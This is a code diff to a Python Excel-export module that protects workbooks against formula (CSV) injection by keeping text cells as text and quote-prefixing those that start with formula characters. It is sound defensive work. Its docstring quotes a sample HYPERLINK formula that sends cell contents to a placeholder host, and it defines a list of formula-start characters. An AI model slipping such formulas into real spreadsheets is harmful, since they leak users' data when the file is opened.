@@ -3,6 +3,14 @@
 Real merged cells for the group columns, numbers stored as numbers (weights and scores with a
 0.00 format), column widths that fit Chinese text, borders and a frozen header row — a finance
 officer opens it and keeps working in it.
+
+Every text cell is stored as text, never as a formula: openpyxl makes any string that starts
+with `=` a live formula, and a title or a unit name such as `=HYPERLINK("http://x/?"&A1)` would
+run when the workbook is opened. Following OWASP's advice on formula (CSV) injection, text
+that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms,
+which Excel also reads as formulas) is marked as literal text with Excel's own quote prefix —
+what Excel sets when someone types `'=…` — so it shows as written and stays text when the
+cell is edited or the sheet is saved as CSV from Excel.
 """
 
 from __future__ import annotations
@@ -12,6 +20,9 @@ from decimal import Decimal
 from typing import Any
 
 from perfdsl.language.source import cell_width
+
+# OWASP: cells starting with these are read as formulas by spreadsheet programs.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def workbook_bytes(model: dict[str, Any]) -> bytes:
@@ -113,9 +124,27 @@ def workbook_bytes(model: dict[str, Any]) -> bytes:
     sheet.page_setup.fitToWidth = 1
     sheet.print_title_rows = f"{header_row}:{header_row}"
 
+    return book_bytes(book)
+
+
+def book_bytes(book: Any) -> bytes:
+    """A workbook saved the one way perfdsl saves workbooks: every text cell of every sheet
+    stays text — never a formula, quote-prefixed when it looks like one (OWASP)."""
+    for sheet in book.worksheets:
+        for sheet_row in sheet.iter_rows():
+            for cell in sheet_row:
+                _as_text(cell)
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
+
+
+def _as_text(cell: Any) -> None:
+    """A text cell stays text: never a formula, and quote-prefixed when it looks like one."""
+    if isinstance(cell.value, str):
+        cell.data_type = "s"
+        if cell.value.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True
 
 
 def _printable(value: Any) -> Any:
@@ -133,14 +162,23 @@ def _printable(value: Any) -> Any:
 
 
 def _excel(value: Any) -> Any:
-    """Decimals as Excel numbers: ints when whole, else floats (two-decimal scores are exact)."""
+    """Decimals as Excel numbers: ints when whole, else floats (two-decimal scores are exact).
+    Excel holds 15 significant digits; anything beyond its range is written as text."""
     if isinstance(value, Decimal):
-        return int(value) if value == value.to_integral_value() else float(value)
+        from perfdsl import formatting
+
+        if not value.is_finite() or (value and not -300 < value.adjusted() < 300):
+            return formatting.plain(value)
+        if value == value.to_integral_value() and value.adjusted() < 15:
+            return int(value)
+        return float(value)
     return value
 
 
 def _number(text: str) -> Any:
-    try:
-        return _excel(Decimal(text))
-    except Exception:  # not a number: keep the text as the unit wrote it
-        return text
+    """A funds amount (万元) as a number when it is one (`40.11`, `401100元`), else the text as
+    the unit wrote it (an unreadable amount is reported as a data problem, D003 or D011)."""
+    from perfdsl.data.figures import money_in_wan
+
+    amount = money_in_wan(text)
+    return text if amount is None else _excel(amount)
